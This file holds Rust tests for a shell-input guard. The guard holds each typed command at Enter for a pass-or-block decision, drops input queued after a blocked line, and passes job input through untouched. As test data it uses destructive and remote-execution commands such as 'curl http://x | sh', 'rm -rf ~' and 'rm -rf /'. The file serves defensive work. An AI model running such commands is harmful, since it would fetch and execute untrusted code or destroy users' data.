use super::*;
use proptest::prelude::*;

const PROMPT: Context = Context {
    at_prompt: true,
    paste_mode: true,
    canonical: false,
};

fn submit(steps: &[Step]) -> Option<&Submission> {
    steps.iter().find_map(|s| match s {
        Step::Submit(sub) => Some(sub),
        _ => None,
    })
}

fn forwarded(steps: &[Step]) -> Vec<u8> {
    steps
        .iter()
        .flat_map(|s| match s {
            Step::Forward(b) => b.clone(),
            _ => Vec::new(),
        })
        .collect()
}

#[test]
fn a_typed_line_is_forwarded_as_typed_and_held_at_enter() {
    let mut g = Guard::new();
    let steps = g.feed(b"ls -l\rpwd\r", PROMPT);
    assert_eq!(steps[0], Step::LineStarted);
    assert_eq!(forwarded(&steps), b"ls -l");
    let sub = submit(&steps).unwrap();
    assert_eq!(
        (sub.line.as_str(), sub.certain, sub.enter),
        ("ls -l", true, b'\r')
    );
    assert!(g.waiting());
    assert_eq!(g.queued(), 4, "pwd\\r waits");
    assert!(g.feed(b"x", PROMPT).is_empty());
    assert_eq!(
        g.resolve(Outcome::Passed {
            line: "ls -l".into()
        }),
        0
    );
    let steps = g.feed(&[], PROMPT);
    assert_eq!(submit(&steps).unwrap().line, "pwd");
}

#[test]
fn a_blocked_line_throws_away_what_was_typed_after_it() {
    let mut g = Guard::new();
    let steps = g.feed(b"curl http://x | sh\rrm -rf ~\r", PROMPT);
    assert_eq!(submit(&steps).unwrap().line, "curl http://x | sh");
    assert_eq!(g.resolve(Outcome::Blocked), 9);
    assert!(g.feed(&[], PROMPT).is_empty());
}

#[test]
fn continuation_lines_are_decided_with_the_lines_before_them() {
    let mut g = Guard::new();
    let steps = g.feed(b"curl http://x |\r", PROMPT);
    let sub = submit(&steps).unwrap().clone();
    g.resolve(Outcome::Passed { line: sub.line });
    let steps = g.feed(b"sh\r", PROMPT);
    let sub = submit(&steps).unwrap();
    assert_eq!(sub.command(&sub.line), "curl http://x |\nsh");
    assert_eq!(
        steps[0],
        Step::LineStarted,
        "a continuation line has its own anchor"
    );
}

#[test]
fn interrupt_forgets_the_line_and_its_continuation() {
    let mut g = Guard::new();
    let steps = g.feed(b"echo 'a\r", PROMPT);
    let line = submit(&steps).unwrap().line.clone();
    g.resolve(Outcome::Passed { line });
    let steps = g.feed(b"x\x03ls\r", PROMPT);
    let sub = submit(&steps).unwrap();
    assert_eq!(sub.command(&sub.line), "ls");
    assert_eq!(
        steps.iter().filter(|s| **s == Step::LineStarted).count(),
        2,
        "{steps:?}"
    );
}

#[test]
fn history_recall_makes_the_line_uncertain() {
    let mut g = Guard::new();
    let steps = g.feed(b"\x1b[A\r", PROMPT);
    assert!(!submit(&steps).unwrap().certain);
}

#[test]
fn a_job_gets_its_input_untouched() {
    let mut g = Guard::new();
    let job = Context {
        at_prompt: false,
        ..PROMPT
    };
    let steps = g.feed(b"rm -rf ~\r", job);
    assert_eq!(steps, vec![Step::Forward(b"rm -rf ~\r".to_vec())]);
}

#[test]
fn in_canonical_mode_escape_sequences_are_text() {
    let mut g = Guard::new();
    let ctx = Context {
        canonical: true,
        ..PROMPT
    };
    let steps = g.feed(b"rm -rf / \x01#\r", ctx);
    let sub = submit(&steps).unwrap();
    assert_eq!(sub.line, "rm -rf / \x01#");
    assert!(sub.certain);
}

proptest! {
    /// Every byte typed reaches the shell exactly once, in order, unless a
    /// blocked line threw it away: nothing is invented, nothing reordered.
    #[test]
    fn input_is_forwarded_in_order(
        chunks in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..40), 0..10),
        canonical in any::<bool>(),
    ) {
        let ctx = Context { canonical, ..PROMPT };
        let mut g = Guard::new();
        let mut sent = Vec::new();
        let typed: Vec<u8> = chunks.concat();
        let handle = |steps: Vec<Step>, g: &mut Guard, sent: &mut Vec<u8>| -> bool {
            let mut more = false;
            for s in steps {
                match s {
                    Step::Forward(b) => sent.extend(b),
                    Step::Submit(sub) => {
                        sent.push(sub.enter);
                        g.resolve(Outcome::Passed { line: sub.line });
                        more = true;
                    }
                    Step::LineStarted => {}
                }
            }
            more
        };
        for c in &chunks {
            let steps = g.feed(c, ctx);
            let mut more = handle(steps, &mut g, &mut sent);
            while more {
                let steps = g.feed(&[], ctx);
                more = handle(steps, &mut g, &mut sent);
            }
        }
        prop_assert_eq!(sent, typed);
    }
}
